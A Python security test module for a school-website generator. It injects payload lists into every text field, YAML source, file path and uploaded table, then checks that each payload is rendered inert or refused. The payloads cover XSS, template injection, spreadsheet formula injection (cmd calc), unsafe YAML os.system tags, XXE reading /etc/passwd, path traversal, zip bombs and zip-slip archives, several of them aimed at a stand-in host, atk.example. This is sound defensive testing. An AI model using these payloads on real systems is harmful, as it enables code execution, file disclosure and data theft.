"""Attacks through every text a curator types and every kind of file: inert or refused."""

from __future__ import annotations

import dataclasses
import io
import typing
import zipfile
from collections.abc import Iterator, Mapping
from datetime import date
from pathlib import Path
from typing import Any

from pydantic import BeforeValidator

from generator.exchange.reading import read_source
from generator.exchange.tables import UnreadableError
from generator.model.base import Entity, Record
from generator.model.registry import Registry
from generator.model.types import Prose, Text
from generator.publication.door import publish
from generator.publish.manifest import is_safe
from generator.render.html import Renderer
from generator.resources import theme_folder
from generator.rules.files import check_files
from generator.settings import Settings
from generator.source.yaml_text import parse_yaml
from generator.views.internal import internal_section
from generator.views.public import public_section
from tests.attack import Active, Attack
from tests.attacks_by_desk import by_desk
from tests.attacks_by_files import by_files
from tests.attacks_by_outputs import by_outputs

TEXTS = (
    "<script>atk()</script>",
    '<img src=x onerror="atk()">',
    "<svg/onload=atk()>",
    '" onmouseover="atk()" x="',
    "' onfocus='atk()' autofocus='",
    "</title></script><script>atk()</script>",
    "[жми](javascript:atk())",
    "![x](data:text/html;base64,YXRr)",
    "<javascript:atk()>",
    "[жми](data:text/html,<script>atk()</script>)",
    "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "<iframe srcdoc='<script>atk()</script>'></iframe>",
    "--><script>atk()</script><!--",
    "]]><script>atk()</script>",
    "<a href=vbscript:atk()>x</a>",
    "<style>@import 'http://atk.example/x.css'</style>",
    '<meta http-equiv="refresh" content="0;url=http://atk.example">',
    "<base href=http://atk.example/>",
    "[a]: javascript:atk()\n\n[жми][a]",
    "&lt;script&gt;atk()&lt;/script&gt;",
    "<form action=http://atk.example><input name=atk>",
    '=HYPERLINK("http://atk.example";"жми")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "![x](http://atk.example/x.png)",
    "[жми](http://atk.example)",
    "\\nATTACH:http://atk.example\\nBEGIN:VALARM",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    '#eval(read("/etc/passwd")) #image("/etc/passwd")',
    "${7*191} <%= 7*191 %> #{7*191}",
    "<details open ontoggle=atk()>x</details>",
    "<object data=javascript:atk()></object>",
)
YAML = (
    "ФИО: !!python/object/apply:os.system ['touch {mark}']",
    "ФИО: !!python/object/new:os.system [touch {mark}]",
    "ФИО: !!python/name:os.system",
    "ФИО: !!python/module:os",
    "ФИО: !<tag:yaml.org,2002:python/object/apply:os.system> ['touch {mark}']",
    "%TAG ! tag:yaml.org,2002:python/\n---\nФИО: !object/apply:os.system ['touch {mark}']",
    "ФИО: !!binary 0JA=",
    "ФИО: !include /etc/passwd",
    "a: &a [x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\nd: [*c, *c, *c, *c]",
    "a: &a\n  b: *a",
    "a:\n  <<: {ФИО: Чужое Имя Отчество}",
    "a: " + "[" * 5000 + "]" * 5000,
    "ФИО: один\n---\nФИО: два",
    "? {сложный: ключ}\n: значение",
)
PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "..",
    "a/../../b.jpg",
    "..\\..\\windows\\win.ini",
    "C:\\windows\\win.ini",
    "C:win.ini",
    "\\\\server\\share\\a.jpg",
    "file:///etc/passwd",
    "http://atk.example/a.jpg",
    "link.jpg",
    "away/hostname",
    "away/../photos/link.jpg",
    "con.jpg",
    "aux/a.jpg",
    "a.jpg:stream",
    "~/a.jpg",
    "a\x00.jpg",
)
DEVICES = (
    "con",
    "PRN.txt",
    "aux",
    "nul.html",
    "COM1",
    "lpt9.css",
    "a/..",
    "a.",
    "a ",
    "a:b",
    "a\x00b",
)


def tried(project: Path, registry: Registry, today: date, scratch: Path) -> list[Attack]:
    """Try all the attacks.

    Args:
        project: The school's folder.
        registry: Its records.
        today: The day of the run.
        scratch: An empty folder.
    """
    return [
        *_texts(project, registry, today),
        *_yaml(scratch),
        *_paths(registry, scratch),
        *(
            Attack("имя файла", path, "прошло" if is_safe(path) else "отклонено")
            for path in DEVICES
        ),
        *_tables(scratch),
        *by_files(registry, scratch / "files"),
        *by_desk(TEXTS, scratch / "desk", today),
    ]


def _texts(project: Path, registry: Registry, today: date) -> Iterator[Attack]:
    """Put every text attack into fields in turn, every field getting two of them."""
    for turn in range(2):
        places: list[tuple[str, str]] = []
        spoilt = _spoilt(registry, turn, places)
        publication = publish(spoilt, today)
        renderer = Renderer((project / "theme", theme_folder()), project / "content")
        pages = [
            renderer.render(page).html for page in public_section(publication, frozenset()).pages
        ]
        inner = internal_section(spoilt, today, ()).pages
        pages += [renderer.render(page).html for page in inner]
        assert sum("atk" in html for html in pages) > len(pages) / 2
        active = Active()
        for html in pages:
            active.feed(html)
            active.close()
            active.reset()
        told = "; ".join(sorted(set(active.found)))
        yield from (Attack(where, what, told or "обезврежено") for where, what in places)
        if not turn:
            yield from by_outputs(spoilt, publication, TEXTS, project, today)


def _spoilt(registry: Registry, turn: int, places: list[tuple[str, str]]) -> Registry:
    changed: dict[str, Any] = {}
    for item in dataclasses.fields(registry):
        value = getattr(registry, item.name)
        if isinstance(value, Mapping):
            changed[item.name] = {k: _record(v, turn, places) for k, v in value.items()}
        elif isinstance(value, Record):
            changed[item.name] = _record(value, turn, places)
        else:
            changed[item.name] = value
    return Registry(**changed)


_LEFT = {"file", "phone", "email", "site", "link", "code", "alt", "inn", "ogrn"}


def _record(record: Record, turn: int, places: list[tuple[str, str]]) -> Record:
    update: dict[str, Any] = {}
    for name, info in type(record).model_fields.items():
        value = getattr(record, name)
        where = f"{type(record).__name__}.{name}"
        if name not in _LEFT and _is_text(info.annotation, info.metadata):
            update[name] = _attacked(value, where, turn, places)
        else:
            update[name] = _inside(value, turn, places)
    made = record.model_copy(update=update)
    if isinstance(record, Entity) and isinstance(made, Entity):
        made._id, made._document = record._id, record._document
    return made


def _inside(value: Any, turn: int, places: list[tuple[str, str]]) -> Any:
    if isinstance(value, Record):
        return _record(value, turn, places)
    if isinstance(value, tuple):
        return tuple(_inside(item, turn, places) for item in value)
    return value


def _attacked(value: Any, where: str, turn: int, places: list[tuple[str, str]]) -> Any:
    if isinstance(value, tuple):
        return tuple(_attacked(item, where, turn, places) for item in value)
    if not isinstance(value, str):
        return value
    number = sum(map(ord, where)) + turn * 7 + len(places)
    attack = TEXTS[number % len(TEXTS)]
    if (where, attack) not in places:
        places.append((where, attack))
    return f"{value} {attack}"


_TEXTUAL = {
    meta.func
    for kind in (Text, Prose)
    for meta in typing.get_args(kind)[1:]
    if isinstance(meta, BeforeValidator)
}


def _is_text(annotation: Any, metadata: list[Any]) -> bool:
    """Tell whether a field holds free text, or a list of it."""
    if any(isinstance(meta, BeforeValidator) and meta.func in _TEXTUAL for meta in metadata):
        return True
    return any(
        _is_text(arg, list(getattr(arg, "__metadata__", ())))
        for arg in typing.get_args(annotation)
        if typing.get_origin(annotation) is not dict
    )


def _yaml(scratch: Path) -> Iterator[Attack]:
    mark = scratch / "executed"
    for text in YAML:
        document, problems = parse_yaml(text.replace("{mark}", str(mark)) + "\n", "x.yml")
        plain = document is None or all(_is_plain(value) for value in document.data.values())
        outcome = "отклонено" if problems else "обезврежено"
        yield Attack("YAML", text[:60], outcome if plain and not mark.exists() else "выполнено")


def _is_plain(node: Any) -> bool:
    if isinstance(node, dict):
        return all(isinstance(key, str) and _is_plain(value) for key, value in node.items())
    if isinstance(node, list):
        return all(map(_is_plain, node))
    return node is None or isinstance(node, str)


def _paths(registry: Registry, scratch: Path) -> Iterator[Attack]:
    """Name files outside the project in every field that names a file."""
    school = scratch / "school"
    for folder in ("data/photos", "content/materials", "content/documents"):
        (school / folder).mkdir(parents=True)
        (school / folder / "link.jpg").symlink_to("/etc/hostname")
        (school / folder / "away").symlink_to("/etc")
        for name in ("con.jpg", "aux/a.jpg", "a.jpg:stream"):
            (school / folder / name).parent.mkdir(exist_ok=True)
            (school / folder / name).write_bytes(b"x")
    mentor = next(m for m in registry.mentors.values() if m.photo)
    case = next(c for c in registry.cases.values() if c.materials)
    for path in PATHS:
        assert mentor.photo
        photo = mentor.photo.model_copy(update={"file": path})
        someone = mentor.model_copy(update={"photo": photo})
        thing = case.materials[0].model_copy(update={"file": path})
        story = case.model_copy(update={"materials": (thing,), "photos": ()})
        for name, changed in (
            ("фото", {"mentors": {mentor.id: someone}, "cases": {}, "acts": {}}),
            ("материал", {"mentors": {}, "cases": {case.id: story}, "acts": {}}),
        ):
            spoilt = dataclasses.replace(registry, mentees={}, **changed)
            codes = {problem.code for problem in check_files(spoilt, Settings(school))}
            yield Attack(
                f"путь: {name}", path, "отклонено" if codes & {"П-15", "П-16"} else "прошло"
            )


_BOMB = "0" * 1_000_000
"""Written 450 times over: a megabyte of an archive unpacks to half a gigabyte."""


def _tables(scratch: Path) -> Iterator[Attack]:
    """Read tables that are bombs, that ask for foreign files, that are something else."""
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    laughs = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ха">' + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">'
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    files = {
        "xxe.docx": {"word/document.xml": xxe},
        "xxe.xlsx": {"xl/workbook.xml": xxe},
        "laughs.docx": {"word/document.xml": f"{laughs}]><a>&i;</a>"},
        "laughs.xlsx": {"xl/workbook.xml": f"{laughs}]><a>&i;</a>"},
        "bomb.xlsx": {"xl/workbook.xml": _BOMB},
        "bomb.docx": {"word/document.xml": _BOMB},
        "outside.xlsx": {"../../../tmp/evil": "x", "xl/workbook.xml": "<a/>"},
        "empty.docx": {"word/document.xml": ""},
    }
    for name, parts in files.items():
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            for part, content in parts.items():
                with archive.open(part, "w") as member:
                    for _ in range(450 if content == _BOMB else 1):
                        member.write(content.encode())
        yield _read(scratch / name, stream.getvalue())
    for name, raw in {
        "page.xlsx": b"<html><script>atk()</script>",
        "program.xlsx": b"MZ\x90\x00" + b"\x00" * 100,
        "cut.xlsx": b"PK\x03\x04" + b"\x00" * 30,
        "script.csv": b"\x00\x01\x02\x03" * 50,
        "macro.doc": b"\xd0\xcf\x11\xe0" + b"\x00" * 600,
        "rich.xlsx": b"{\\rtf1 \\object}",
    }.items():
        yield _read(scratch / name, raw)


def _read(file: Path, raw: bytes) -> Attack:
    file.write_bytes(raw)
    hostname = Path("/etc/hostname").read_text(encoding="utf-8").strip() or "\x00"
    try:
        source = read_source(file)
    except UnreadableError:
        return Attack("таблица", file.name, "отклонено")
    leaked = hostname in repr(source)
    return Attack("таблица", file.name, "прочитан чужой файл" if leaked else "обезврежено")
